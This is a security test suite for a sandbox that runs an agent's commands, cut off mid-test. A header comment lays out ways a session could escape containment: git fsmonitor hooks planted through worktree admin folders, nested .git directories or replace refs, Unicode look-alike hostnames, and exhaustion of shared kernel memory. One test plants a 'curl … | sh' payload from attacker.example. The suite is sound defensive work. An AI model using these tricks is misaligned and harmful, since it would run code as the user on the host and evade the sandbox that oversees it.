/**
 * Adversary round 11: attacks on the fixes of rounds 8 and 10 that worked on the code they were
 * written against (46dde10). Each test asserts the safe behaviour, so it fails on that
 * code; all are fixed now and run (the git audit, the socket-memory cgroup, the display). Not repeated: what round 10 left OPEN (a new
 * `.git/commondir`, a gitlink or `.git/modules/<name>/config`, the config replaced on the host,
 * whole-script look-alikes, the pty pool) and round 8's write into a later command's FIFO.
 *
 * Kind 3 (code planted for the person's git on the host), a linked worktree's admin folder: the
 * person's other worktrees (`git worktree add ../feature`) keep their git dir in the workspace's
 * `.git/worktrees/<id>/`, which stays writable, and each names its common dir in the file
 * `commondir` that is already there. Steps: `cp -r .git .cache-git`, set `core.fsmonitor` in
 * `.cache-git/config` to a script, write the path of `.cache-git` into
 * `.git/worktrees/<id>/commondir` (by rename). Achieves: the person's next `git status` in that
 * other worktree, on the host, runs the script as the person (root here; git checks the owner of
 * the worktree, its `.git` file and its git dir, all still the person's, never of the common dir).
 * A fix that watches new entries at the top of `.git` misses it (the file is git's own). Fix: bind
 * each `worktrees/<id>/` read-only but for its index, HEAD, logs and refs (or its `commondir`,
 * `config.worktree` and `gitdir` read-only), created empty when missing as for the root's; or
 * check them at the end of each command and of the run and report any change.
 * Fixed (src/session/git-guard.ts `linkedWorktrees`, `adminEntries`): at session start, `worktrees/`
 * and every `worktrees/<id>/` are bound onto themselves (mount points: no rename, no removal,
 * EBUSY), each folder's `commondir`, `gitdir` and `config.worktree` read-only (the last created
 * empty when the config turns `extensions.worktreeConfig` on), a folder without `commondir` bound
 * read-only whole, and the `.git` file of a linked worktree inside the workspace read-only. On the
 * code before, the test below ran the program as root; tried and held since: renaming the folder
 * or `worktrees`, removing, hard-linking, `linkat`, symlinking over, chmod of `commondir`,
 * rewriting `gitdir`, a symlink for `worktrees`, a worktree inside the workspace re-pointed, and a
 * workspace that is itself a linked worktree (the main repository lies outside it, read-only; git
 * cannot write there either, so such a workspace gets no commits), and a new `worktrees/<id>`
 * whose `gitdir` names the person's other checkout, adopted by the person's `git worktree repair`,
 * in a root-owned workspace (the folder is the session user's: git refuses it, "dubious
 * ownership"; a root-owned one cannot be moved in, another mount). Fixed since (its test runs): the
 * same in a repository owned by its person (bash runs as the owner), where it ran as the owner: the
 * worker's git audit (src/session/git-audit.ts) moves a new `worktrees/<id>` whose `commondir` is not
 * the repository's, or whose `gitdir` names a checkout outside the workspace, after each command.
 *
 * Kind 3, a `.git` in a subdirectory: git run in `src/` finds `src/.git` before the root's. Steps
 * in a repository owned by its person (bash runs as the owner): `cp -r .git src/.git`,
 * `core.worktree ../..` and `core.fsmonitor` in `src/.git/config`. In a root-owned workspace (bash
 * runs as agent-jobs, so git would refuse a git dir the session made, "dubious ownership"): move a
 * directory of the person's (`src/lib`, root's, writable through the ACL) to `src/.git`, fill it
 * with a copy of the git dir, and put a copy of `src/lib` back. Achieves: at the root `git status`
 * is clean and shows nothing; the person's `git status` (any git command) in `src/` runs the
 * script as the person or as root. Checkpoints and `agent-jobs diff` never hold a path named `.git`
 * and `rewind` leaves it. Fix: at the end of each command and of the run, find every `.git` below
 * the workspace's root (file, directory or symlink; a `.git` directory found by name, whoever owns
 * it) and remove or report it with a warning in `status`/`diff`; or refuse the name `.git` below
 * the root in the sandbox (an empty read-only bind cannot cover names not yet made: it needs the
 * check). Fixed (their tests run): the git audit moves every `.git` below the root, and every
 * directory git takes for a bare repository, that was not there at start, after each command and at
 * close, to `.git/agent-jobs-quarantine/`, and says so in the command's result.
 *
 * Kind 3 / kind 5 (what git shows is not what is there): refs stay writable, and git reads some
 * refs as instructions. Steps: commit a payload (`curl … | sh` added to build.sh), build a commit
 * with the same message and the parent's tree (`git commit-tree`), and point
 * `refs/replace/<payload commit>` at it; check out the clean file. Achieves: on the host the
 * person's `git status` is clean, `git log -p` and `git show HEAD:build.sh` show no payload, and
 * `git push` sends the payload commit (pack-objects ignores replace refs). Two more of the same,
 * run with plain git on the host (the session writes refs as the test shows): moving
 * `refs/remotes/origin/main` to HEAD makes `git status` say "up to date with 'origin/main'" while
 * the person's main holds the agent's commits, which their next push sends; a forged
 * `objects/info/commit-graph` (the payload commit's tree id swapped for the clean one, no checksum
 * read) makes `status` and `log -p` show no change while `git show` does (push then fails).
 * Fix: bind `refs/replace` (created empty) and `objects/info/commit-graph(s)` read-only, or refuse
 * them (the person's git reads replace refs unless told not to); and report at the end of the run
 * every ref the session moved outside `refs/heads` (remote-tracking refs, tags), old and new.
 * Fixed for replace refs (its test runs): the git audit moves a new loose `refs/replace/*` ref and
 * drops a new packed one after each command; the person's git then shows the commit their push
 * sends. Still open (not written as tests): the remote-tracking ref moved, the forged commit-graph.
 *
 * Kind 5 (what the human reads is not what runs): the round-10 mixed-script check lets through the
 * mixes of Unicode TR39's "highly restrictive" level (Latin with Han and Kana, with Han and
 * Bopomofo, with Han and Hangul), on the ground that those scripts have no letter drawn as a Latin
 * one. They have: HALFWIDTH HANGUL LETTER I (U+FFDC, one column, a plain stroke) and HANGUL LETTER
 * I (U+3163) and the ideograph U+4E28 are drawn as `l`, IDEOGRAPHIC NUMBER ZERO (U+3007) as `O`,
 * BOPOMOFO LETTER I (U+3127) as a dash. `curl https://git\uFFDCab.com/…` reads as gitlab.com and is
 * shown as it is, with no warning, in `pending`, `watch`, the approval prompt and the UI; a remote
 * or branch named so in a prepared repository is another one to git, as round 10's `оrigin`.
 * Fix: in a word with Latin letters, flag every Han, Hangul, Bopomofo or Kana letter whose TR39
 * confusable skeleton is ASCII (or any of a short, tested list), as the Cyrillic and Greek ones are;
 * or allow those mixes only when no letter of the other script stands between two Latin ones.
 * FIXED: `markAsciiLookalikes` in src/shared/display.ts flags (escapes, warns "a look-alike of an
 * ASCII character in a word read as ASCII: U+FFDC drawn as "l"") every character whose TR39 skeleton is one
 * ASCII character (src/shared/ascii-lookalikes.ts, 1,989 code points generated from Unicode 18's
 * confusables data by src/dev/scripts/ascii-lookalikes-table.ts) when it stands next to a Latin
 * letter or digit of its word, whatever the scripts, or is a word of look-alikes only beside ASCII
 * punctuation (`-〇`, `/ㅣ/`). In the data U+FFDC, U+3163 and U+4E28 have the skeleton U+4E28 and
 * U+3127 itself, not ASCII: the generator counts those prototypes (and U+30FC) as `l` and `-`. The
 * tests below: the five in a host, a flag and a path, digits (`7ЗЗ`), a combining sequence, a
 * fullwidth word; and Korean, Chinese, Japanese and Russian text left as it is. Still open: a lone
 * look-alike word with no ASCII beside it (`git checkout ㅣ`), as round 10's whole-script words.
 *
 * Kind 6 (a machine-wide pool drained by one session), TCP buffer memory: a session, without
 * `--network`, has its own loopback; a job that opens connections to itself and never reads holds
 * about 4 MiB of socket buffers per connection, charged to `net.ipv4.tcp_mem`, one count for the
 * whole machine (every namespace), bounded by neither `ulimit -v` nor the OOM killer (kernel
 * memory, far below the RAM: 2.2 GiB of 24). At `tcp_mem[2]` (575,814 pages here, about 580
 * connections, within one process's 20,000 descriptors) the kernel holds every other TCP socket on
 * the machine to its minimum buffers and drops what does not fit (its documented behaviour, not
 * observed here): the worker's gRPC to Temporal, Temporal's to its database, other runs. UDP's `udp_mem` is the same. This was run by mistake once in
 * writing the test: a job that read the sandbox's own `/proc/net/sockstat` (which does not show
 * the host's count) to stop at 64 MiB never stopped, and the host's count reached 579,503 pages,
 * past the hard limit, for about 5 s. The test now holds 32 connections (about 120 MiB). Fix: a
 * memory cgroup for the session (cgroup v2 charges socket buffers to it) whose `memory.max` is far
 * below `tcp_mem[1]`, or per-namespace maxima for the session's sockets (`net.ipv4.tcp_rmem`,
 * `tcp_wmem`) together with a bound on their number.
 * Fixed (its test runs; src/session/guard.ts `SESSION_SOCKET_BYTES`): each shell gets a cgroup v1
 * memory cgroup whose `memory.kmem.tcp.limit_in_bytes` is 32 MiB (bash, its jobs and exact runs join
 * it before they run anything); a charge the cgroup refuses is taken back from the machine's pool
 * too. Measured with the test's 32 connections: the machine's count rose by 31,087 pages (121 MiB)
 * before, 8,285 (32.4 MiB) after. On cgroup v2 (no such cgroup made) the bound is the worker's own
 * cgroup's `memory.max` (docs/security.md).
 *
 * Kind 6, BPF JIT memory: a classic BPF socket filter (setsockopt `SO_ATTACH_FILTER` on a UDP
 * socket, allowed by the session's seccomp filter) or a seccomp filter (`PR_SET_NO_NEW_PRIVS` works
 * in a session) is compiled to machine code charged to `bpf_jit_current`, one count for the
 * machine, against `net.core.bpf_jit_limit` (504 MiB here). A job holding 1,000 filters of 4,096
 * instructions took 9 more 2 MiB packs, 18 MiB (the test); about 27,000 (two processes' descriptors) take all of
 * it. Then every process without CAP_BPF or CAP_SYS_ADMIN gets EPERM for any filter, and this
 * kernel (CONFIG_BPF_JIT_ALWAYS_ON) has no interpreter to fall back to: sshd's pre-authentication
 * child, browsers' and flatpak's sandboxes, systemd user services with SystemCallFilter, rootless
 * containers fail to start (and, not checked, new sessions, if bwrap loads its filter without
 * those capabilities). Not run past 18 MiB. Fix: refuse `setsockopt` with `SO_ATTACH_FILTER`,
 * `SO_ATTACH_BPF`, `SO_ATTACH_REUSEPORT_CBPF`/`EBPF` in the session's filter (level and option are
 * plain arguments), and decide for `seccomp(SECCOMP_SET_MODE_FILTER)`/`prctl(PR_SET_SECCOMP)`:
 * refuse (nested sandboxes then run without one), or accept the bound that `pids.max` and the
 * kernel's 32,768 instructions per task's chain give (about 1,024 x 160 KiB), documented.
 * Fixed (its test runs; src/session/seccomp.ts `BPF_SOCKET_OPTIONS`): the four options at
 * `SOL_SOCKET` and `bpf(2)` refused with EPERM, and a seccomp filter of a process's own
 * (`seccomp(SECCOMP_SET_MODE_FILTER)`, `prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER)`) with EINVAL:
 * the bound was not 160 KiB a task but about 455 KiB (division by a constant, about 14 bytes of
 * code an instruction; measured with 14 unprivileged processes on the host), so a session's 1,024
 * tasks could take about 455 MiB of the 504. More attacks: test/unit/attack/bpf-jit.test.ts.
 *
 * Tried and held (one line each; run or only read):
 * - Another path to the guarded config, hooks or info: a hard link, `linkat` through
 *   `/proc/self/fd`, a hard link to a hook, `unshare -Urm` and `unshare -m`, rename(2) of `info/`
 *   and `hooks/`, a symlink or chmod over the config, `mount -o remount,rw`: all refused (run, the
 *   test below).
 * - A `.git` directory the session makes in a subdirectory of a root-owned workspace: git refuses
 *   it, "dubious ownership" (run on the host as another uid); the moved directory above gets past.
 * - `objects/info/alternates` (writable): adds objects, cannot change one under its hash (read).
 * - `.git/remotes/<name>`, `.git/branches/<name>` (writable): git reads them only for a remote
 *   the config does not define (read).
 * - A planted `.git/rebase-merge/git-rebase-todo` with `exec`: runs only when the person continues
 *   a rebase they did not start, which `git status` shows (read).
 * - `.gitmodules` with `update = !cmd` (ignored from that file since git 2.20), a `.gitattributes`
 *   filter or diff driver (needs a definition in config, read-only) (read).
 * - Exact runs: `exactSandbox` (src/session/session.ts) replaces `readable` with `[]`, which drops
 *   the git guard's read-only binds too; latent only, since the programs the policy runs exactly
 *   write nothing (`find`'s writing actions refused), but the guard should be kept there (read).
 * - The FIFO hardening: a command sees its FIFO root's, mode 0620, group agent-jobs, and bash's
 *   `/proc/<pid>/fd` refused (run); the fence is random and in no line; a pipe kept full by the
 *   command's own job makes the worker give up the fence after 1 s with the command's own output;
 *   the control and record channels are socket pairs (no reopen through `/proc`) and MSG_PEEK is
 *   refused; `LC_ALL`/`TEXTDOMAINDIR` cannot change the status digits inside the record's file name
 *   (read).
 * - Display: tab runs, CR, U+2028, NEL, OSC 8, CGJ, tag characters, U+180E, U+2060, musical and
 *   Egyptian format controls, U+17B4, Hangul fillers, U+2800, PUA, BOM, ALM, U+2061, an emoji
 *   modifier, an overlay U+0338 after `;`: each escaped with a warning (run). `ㅣ` or `丨` standing
 *   alone as `|` is not flagged (the table leaves letters out for a letter-shaped target), but a
 *   pipe that is not one makes a command read as more dangerous, not less (run, no finding).
 * - AIO: `io_setup` is the only way to a context; io_uring, x32 and foreign ABIs refused (read).
 *   Per-namespace pools (SysV IPC, conntrack, ports) are the session's own; per-uid ones (key
 *   quota, fanotify groups, pipe pages, RLIMIT_NPROC) are the round-8 inotify kind, not written up
 *   again; the hugetlb pool is empty here (`vm.nr_hugepages` 0); the pid space is bounded by
 *   `pids.max` (read).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { displayCommand } from '../../../src/shared/display';
import { lookupUser } from '../../../src/session/identity';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
import { personsRepo, plant, withoutStateNote } from './persons-repo';
import { expectFlaggedEverywhere, type LookalikeCase } from './lookalikes';
import { holdMachinePool, releaseMachinePool } from './machine-pool';

afterEach(closeSessions);
afterAll(removeTempDirs);

const isRoot = process.getuid?.() === 0;
const OWNER = 'aj-owner-test';
const dOwner = isRoot ? describe : describe.skip;

/** Runs `argv` as `user` (runuser, a minimal environment), in `cwd`. */
function as(user: string, argv: string[], cwd?: string): { status: number | null; out: string } {
  const r = spawnSync('runuser', ['-u', user, '--', 'env', `HOME=/home/${user}`, ...argv], {
    cwd,
    encoding: 'utf8',
    env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', HOME: '/nonexistent' },
  });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
}

/** Who ran the planted program (the user name it wrote), or null when it never ran. */
const ranAs = (marker: string): string | null => (fs.existsSync(marker) ? fs.readFileSync(marker, 'utf8').trim() : null);

/** The session's copy of the repository with its program as fsmonitor, and twenty admin folders that name it and the person's other checkout (`git worktree repair` reads folders in directory order: the last one that names the checkout wins). */
const adoptable = (marker: string): string =>
  [
    'cp -r .git .cache-git',
    plant(marker, '.cache-git/fsm'),
    'git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm"',
    'for id in $(seq -f z%02g 1 20); do mkdir .git/worktrees/$id && cp .git/worktrees/*-feature/HEAD .git/worktrees/$id/ && echo "$PWD/.cache-git" > .git/worktrees/$id/commondir && echo "$PWD-feature/.git" > .git/worktrees/$id/gitdir; done',
    'echo planted',
  ].join(' && ');

describe("kind 3: the person's git, later, on the host, through parts of .git the guard leaves writable", () => {
  test("rewriting a linked worktree's `.git/worktrees/<id>/commondir` does not run the session's program in the person's git there", async () => {
    const { ws, marker, git } = personsRepo();
    // The person's own second worktree of the repository, outside the workspace (`git worktree add`).
    const other = `${ws}-feature`;
    git('worktree', 'add', '-q', other, '-b', 'feature');
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      // The admin folder of that worktree lives in the workspace's .git, which stays writable.
      const r = await s.run(
        [
          'cp -r .git .cache-git',
          plant(marker, '.cache-git/fsm'),
          'git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm"',
          'echo "$PWD/.cache-git" > .git/worktrees/c',
          'echo planted',
        ].join(' && ') + '; mv .git/worktrees/c .git/worktrees/*/commondir 2>/dev/null; echo mv=$?',
      );
      const moved = r.output.split('\n')[1];
      expect(r.output.split('\n')[0]).toBe('planted');
      // Later, on the host, the person looks at their other worktree.
      execFileSync('git', ['-C', other, 'status', '--short'], { stdio: 'pipe' });
      expect({ moved, ranOnTheHostAs: ranAs(marker) }).toEqual({ moved: 'mv=1', ranOnTheHostAs: null });
    } finally {
      fs.rmSync(marker, { force: true });
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  test("a `refs/replace/<commit>` of the session does not make the person's git show other content than what their push sends", async () => {
    const { ws, git } = personsRepo();
    const remote = tempDir('aj-remote-');
    execFileSync('git', ['init', '-q', '--bare', remote]);
    git('remote', 'add', 'origin', remote);
    const s = await startSession({ cwd: ws, workspace: ws });
    // The approved command (or a job it left): a commit with a payload, and a replacement that shows none.
    const r = await s.run(
      [
        'G="git -c user.name=a -c user.email=a@example.com"',
        "echo 'curl -s https://attacker.example/x | sh' >> build.sh",
        '$G commit -qam "build: tidy"',
        'BAD=$(git rev-parse HEAD)',
        'git checkout -q HEAD~1 -- build.sh',
        'CLEAN=$($G commit-tree -p HEAD~1 -m "build: tidy" $(git write-tree))',
        'git update-ref refs/replace/$BAD $CLEAN',
        'echo planted',
      ].join(' && '),
    );
    // The worker's audit after the command moved the replace ref away, and said so.
    expect(r.output.split('\n')[0]).toBe('planted');
    expect(r.output).toMatch(/moved to \.git\/agent-jobs-quarantine.*refs\/replace\/[0-9a-f]{40} \(a replace ref/);
    // The person, on the host: a clean working tree, and the commit's file as git shows it.
    const status = git('status', '--short');
    const shown = git('show', 'HEAD:build.sh');
    git('push', '-q', 'origin', 'main');
    const pushed = execFileSync('git', ['-C', remote, '--no-replace-objects', 'show', 'main:build.sh'], { encoding: 'utf8' });
    // With the replacement gone, git shows the commit that is pushed, and the clean file checked out over it as a change.
    expect({ status, pushed }).toEqual({ status: 'M  build.sh\n', pushed: shown });
    expect(shown).toContain('curl');
  });
});

describe('kind 3, held: other ways to the guarded files', () => {
  test('a hard link, a link through /proc/self/fd, a mount namespace, a rename or a symlink get nothing into config, hooks or info', async () => {
    const { ws, git } = personsRepo();
    const configBefore = fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8');
    const s = await startSession({ cwd: ws, workspace: ws });
    const linkat = (from: string, to: string): string =>
      `python3 -c 'import os; fd = os.open("${from}", os.O_RDONLY); os.link("/proc/self/fd/" + str(fd), "${to}", follow_symlinks=True)'`;
    const tries: Record<string, string> = {
      hardLinkConfig: 'ln .git/config cfg && echo "[core] fsmonitor = x" >> cfg',
      linkatConfig: `${linkat('.git/config', 'cfg2')} && echo "[core] fsmonitor = x" >> cfg2`,
      hardLinkHookDir: 'ln .git/hooks/pre-commit.sample h && echo x >> h',
      userNamespace: 'unshare -Urm true',
      mountNamespace: 'unshare -m true',
      // rename(2) itself: mv would fall back to a copy.
      renameInfo: `python3 -c 'import os; os.rename(".git/info", "info-away")'`,
      renameHooks: `python3 -c 'import os; os.rename(".git/hooks", "hooks-away")'`,
      symlinkOverConfig: 'ln -sfn "$PWD/c" .git/config',
      chmodConfig: 'chmod 666 .git/config && echo x >> .git/config',
      remountRw: 'mount -o remount,rw .git/config',
    };
    const got: Record<string, number | null> = {};
    for (const [name, command] of Object.entries(tries)) got[name] = (await s.run(`{ ${command}; } 2>/dev/null`)).exitCode;
    for (const [name, code] of Object.entries(got)) expect({ name, failed: code !== 0 }).toEqual({ name, failed: true });
    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(git('status', '--short')).toBe('');
  });
});

describe("kind 3, held: other ways into a linked worktree's admin folder", () => {
  /** The person's repository with a second worktree outside the workspace, and a session in the workspace. */
  function withOtherWorktree(): { ws: string; other: string; marker: string; git: (...a: string[]) => string } {
    const { ws, marker, git } = personsRepo();
    const other = `${ws}-feature`;
    git('worktree', 'add', '-q', other, '-b', 'feature');
    return { ws, other, marker, git };
  }

  test('renaming the folder or `worktrees`, removing, linking or replacing `commondir`, `gitdir` or `worktrees` all fail, and nothing runs', async () => {
    const { ws, other, marker, git } = withOtherWorktree();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      // The session's copy of the repository, with its program as fsmonitor: what every try points the person's worktree at.
      const prep = await s.run(
        `cp -r .git .cache-git && ${plant(marker, '.cache-git/fsm')} && git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm" && echo ok`,
      );
      // (The audit after the command moves the copy away as a repository of the session's; the binds are tried all the same.)
      expect(prep.output.split('\n')[0]).toBe('ok');
      const A = '.git/worktrees/*-feature';
      const linkat = (from: string, to: string): string =>
        `python3 -c 'import glob, os; fd = os.open(glob.glob("${from}")[0], os.O_RDONLY); os.link("/proc/self/fd/" + str(fd), "${to}", follow_symlinks=True)'`;
      const tries: Record<string, string> = {
        writeCommondir: `echo "$PWD/.cache-git" > ${A}/commondir`,
        removeCommondir: `rm -f ${A}/commondir && echo "$PWD/.cache-git" > ${A}/commondir`,
        hardLinkCommondir: `ln ${A}/commondir cd && echo "$PWD/.cache-git" > cd`,
        linkatCommondir: `${linkat(`${A}/commondir`, 'cd2')} && echo "$PWD/.cache-git" > cd2`,
        symlinkOverCommondir: `echo "$PWD/.cache-git" > c && ln -sfn "$PWD/c" ${A}/commondir`,
        chmodCommondir: `chmod 666 ${A}/commondir && echo x >> ${A}/commondir`,
        gitdir: `echo "$PWD/x/.git" > ${A}/gitdir`,
        // rename(2) itself (mv would fall back to a copy), then a folder of the session's under the old name.
        renameAdmin: `python3 -c 'import glob, os; os.rename(glob.glob("${A}")[0], ".git/worktrees/away")' && cp -r .git/worktrees/away ${ws}-x && echo "$PWD/.cache-git" > ${ws}-x/commondir`,
        renameWorktrees: `python3 -c 'import os; os.rename(".git/worktrees", ".git/worktrees-away")'`,
        renameOverWorktrees: `mkdir -p w/x && python3 -c 'import os; os.rename("w", ".git/worktrees")'`,
        removeWorktrees: 'rmdir .git/worktrees/*-feature',
        symlinkWorktrees: `ln -sfn "$PWD/.cache-git/worktrees" .git/worktrees && test -L .git/worktrees`,
        remountRw: `mount -o remount,rw ${A}/commondir`,
        // A root-owned folder moved into worktrees/ would pass git's ownership check on the host: another mount (EXDEV).
        renameIntoWorktrees: `python3 -c 'import os; os.rename(".git/branches", ".git/worktrees/zz")'`,
      };
      const got: Record<string, number | null> = {};
      for (const [name, command] of Object.entries(tries)) got[name] = (await s.run(`{ ${command}; } 2>/dev/null`)).exitCode;
      for (const [name, code] of Object.entries(got)) expect({ name, failed: code !== 0 }).toEqual({ name, failed: true });
      // The person's other worktree, on the host: still the repository's, and nothing of the session's runs.
      execFileSync('git', ['-C', other, 'status', '--short'], { stdio: 'pipe' });
      const common = execFileSync('git', ['-C', other, 'rev-parse', '--path-format=absolute', '--git-common-dir'], {
        encoding: 'utf8',
      }).trim();
      expect({ common, ranOnTheHostAs: ranAs(marker) }).toEqual({ common: path.join(ws, '.git'), ranOnTheHostAs: null });
      expect(git('worktree', 'list').split('\n').filter(Boolean)).toHaveLength(2);
    } finally {
      fs.rmSync(marker, { force: true });
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  test('git in the session still works: commit, branch, `git worktree add` of its own (in the workspace and in /tmp), list, remove', async () => {
    const { ws, other, git } = withOtherWorktree();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const G = 'git -c user.name=a -c user.email=a@example.com';
      const r = await s.run(
        [
          `echo two > f && git add f && ${G} commit -qm two`,
          'git checkout -qb topic',
          'git worktree add -q wt2 -b mine',
          `echo three > wt2/g && git -C wt2 add g && ${G} -C wt2 commit -qm three`,
          'git worktree add -q /tmp/wt3 -b tmp',
          'git worktree list | wc -l',
          'git worktree remove /tmp/wt3',
          'git worktree list | wc -l',
          'git log --oneline mine | wc -l',
        ].join(' && '),
      );
      // The session's commits and branches are named by the git state audit; what git printed is the claim here.
      expect({ ...r, output: withoutStateNote(r.output).output }).toMatchObject({ output: '4\n3\n3\n', exitCode: 0 });
      // On the host, the person sees the session's work and their own worktree as it was.
      expect(git('log', '--oneline', 'mine').split('\n').filter(Boolean)).toHaveLength(3);
      expect(execFileSync('git', ['-C', other, 'rev-parse', '--abbrev-ref', 'HEAD'], { encoding: 'utf8' })).toBe('feature\n');
    } finally {
      fs.rmSync(other, { recursive: true, force: true });
    }
  });

  test("the person's worktree inside the workspace: its `.git` file cannot be pointed elsewhere", async () => {
    const { ws, marker, git } = personsRepo();
    git('worktree', 'add', '-q', path.join(ws, 'feature'), '-b', 'feature');
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        `cp -r .git .cache-git && ${plant(marker, '.cache-git/fsm')} && git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm" && cp -r .git/worktrees/feature .cache-git/worktrees/ && echo "$PWD/.cache-git" > .cache-git/worktrees/feature/commondir && echo ok; { echo "gitdir: $PWD/.cache-git/worktrees/feature" > feature/.git; } 2>/dev/null; echo rc=$?`,
      );
      expect(r.output.split('\n').slice(0, 2)).toEqual(['ok', 'rc=1']);
      execFileSync('git', ['-C', path.join(ws, 'feature'), 'status', '--short'], { stdio: 'pipe' });
      expect({ ranOnTheHostAs: ranAs(marker) }).toEqual({ ranOnTheHostAs: null });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });

  test("a workspace that is itself a linked worktree: the main repository's config and this worktree's commondir are out of reach", async () => {
    const { ws: main, marker, git } = personsRepo();
    const ws = `${main}-wt`;
    git('worktree', 'add', '-q', ws, '-b', 'wt');
    const admin = path.join(main, '.git', 'worktrees', path.basename(ws));
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        `${plant(marker, 'fsm')}; for f in ${main}/.git/config ${admin}/commondir ${admin}/gitdir; do { echo x >> $f; } 2>/dev/null; echo $?; done; git config core.fsmonitor "$PWD/fsm" 2>/dev/null; echo $(($? != 0))`,
      );
      expect(r.output).toBe('1\n1\n1\n1\n');
      git('status', '--short');
      execFileSync('git', ['-C', ws, 'status', '--short'], { stdio: 'pipe' });
      expect({ ranOnTheHostAs: ranAs(marker) }).toEqual({ ranOnTheHostAs: null });
    } finally {
      fs.rmSync(marker, { force: true });
      fs.rmSync(ws, { recursive: true, force: true });
    }
  });

  test("in a root-owned workspace, a new `worktrees/<id>` the person's `git worktree repair` adopts is the session user's, and git refuses it", async () => {
    const { ws, other, marker, git } = withOtherWorktree();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      expect((await s.run(adoptable(marker))).output.split('\n')[0]).toBe('planted');
      // `git worktree repair` (no argument) points the other checkout's .git file at the last folder it reads that names
      // it: one of the session's, unless the directory order puts the person's own last (1 in 21).
      git('worktree', 'repair');
      const adopted = /worktrees\/z\d\d\n?$/.test(fs.readFileSync(path.join(other, '.git'), 'utf8'));
      // A folder the session made is the session user's: the person's git there refuses it, and runs nothing.
      const status = spawnSync('git', ['-C', other, 'status', '--short'], { encoding: 'utf8' });
      expect({ status: status.status, ranOnTheHostAs: ranAs(marker) }).toEqual({ status: adopted ? 128 : 0, ranOnTheHostAs: null });
      if (adopted) expect(status.stderr).toContain('dubious ownership');
    } finally {
      fs.rmSync(marker, { force: true });
      fs.rmSync(other, { recursive: true, force: true });
    }
  });
});

/*
 * Was OPEN, fixed by the git audit (src/session/git-audit.ts): `git worktree add` must keep working
 * in the session, so `worktrees/` takes new folders.
 * In a repository owned by its person (bash runs as the owner, so what it makes is the person's),
 * the session makes folders whose `commondir` names its copy of the repository and whose `gitdir`
 * names the person's other checkout. Nothing reads them in `status`, `log`, `worktree list` or
 * `prune`; but `git worktree repair` with no argument (what git tells a person to run after moving
 * a repository) finds that checkout's `.git` file "incorrect" for such a folder and rewrites it to
 * point there (the last folder read wins, and the session can make many), after which the
 * person's git in that checkout runs the session's program. (In a root-owned workspace the folder
 * is the session user's and git refuses it, above.) Fix: at the end of each command and of the run,
 * the worker reports (or removes) every `worktrees/<id>` made during the run whose `gitdir` names a
 * path the sandbox does not show writable, or whose `commondir` is not the repository's.
 */
dOwner("kind 3: a new `worktrees/<id>` in a repository owned by its person, adopted by the person's `git worktree repair`", () => {
  test("the session's folder naming the person's other checkout does not run its program after `git worktree repair`", async () => {
    if (!lookupUser(OWNER)) spawnSync('useradd', ['--create-home', '--shell', '/bin/bash', OWNER]);
    const owner = lookupUser(OWNER)!;
    const parent = fs.mkdtempSync(path.join(owner.home, 'aj-wt-'));
    fs.chownSync(parent, owner.uid, owner.gid);
    const ws = path.join(parent, 'repo');
    const other = `${ws}-feature`;
    const marker = path.join(parent, 'host-marker');
    const G = ['git', '-c', 'user.name=o', '-c', 'user.email=o@x'];
    try {
      expect(as(OWNER, ['git', 'init', '-q', '-b', 'main', ws]).status).toBe(0);
      expect(as(OWNER, [...G, '-C', ws, 'commit', '-q', '--allow-empty', '-m', 'first']).status).toBe(0);
      expect(as(OWNER, ['git', '-C', ws, 'worktree', 'add', '-q', other, '-b', 'feature']).status).toBe(0);
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(adoptable(marker));
      // The worker's audit after the command moved the session's folders away, and said so.
      expect(r.output.split('\n')[0]).toBe('planted');
      expect(r.output).toContain(".git/worktrees/z01 (a linked worktree whose commondir is not the repository's)");
      // Later, on the host, the person repairs their worktrees (after moving the repository, say) and works in the other one.
      as(OWNER, ['git', '-C', ws, 'worktree', 'repair']);
      as(OWNER, ['git', 'status', '--short'], other);
      expect({ ranOnTheHostAs: ranAs(marker) }).toEqual({ ranOnTheHostAs: null });
    } finally {
      fs.rmSync(parent, { recursive: true, force: true });
    }
  });
});

describe('kind 3: a `.git` in a subdirectory, found first by git run there', () => {
  test("in a root-owned workspace, a root-owned directory the session moves to `src/.git` does not run its program in the person's git in src/", async () => {
    const { ws, marker, git } = personsRepo();
    fs.mkdirSync(path.join(ws, 'src', 'lib'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'src', 'lib', 'x.c'), 'int x;\n');
    git('add', '.');
    git('commit', '-qm', 'two');
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      // git refuses a git dir that is not root's ("dubious ownership"): the session makes none, it
      // moves the person's own directory src/lib (root's, writable through the ACL) to src/.git,
      // fills it with a copy of the git dir whose work tree is the root, and puts src/lib back.
      const r = await s.run(
        [
          'cp -r src/lib /tmp/lib',
          'mv src/lib src/.git',
          'rm src/.git/x.c',
          'cp -r .git/. src/.git/',
          plant(marker, 'src/.git/fsm'),
          'git --git-dir=src/.git config core.worktree ../..',
          'git --git-dir=src/.git config core.fsmonitor "$PWD/src/.git/fsm"',
          'cp -r /tmp/lib src/lib',
          'echo planted',
        ].join(' && '),
      );
      expect(r.output.split('\n')[0]).toBe('planted');
      expect(r.output).toContain('src/.git (a .git below the root');
      // On the host, the person: at the root all is as they left it; in src/, their git runs the program.
      const atRoot = git('status', '--short');
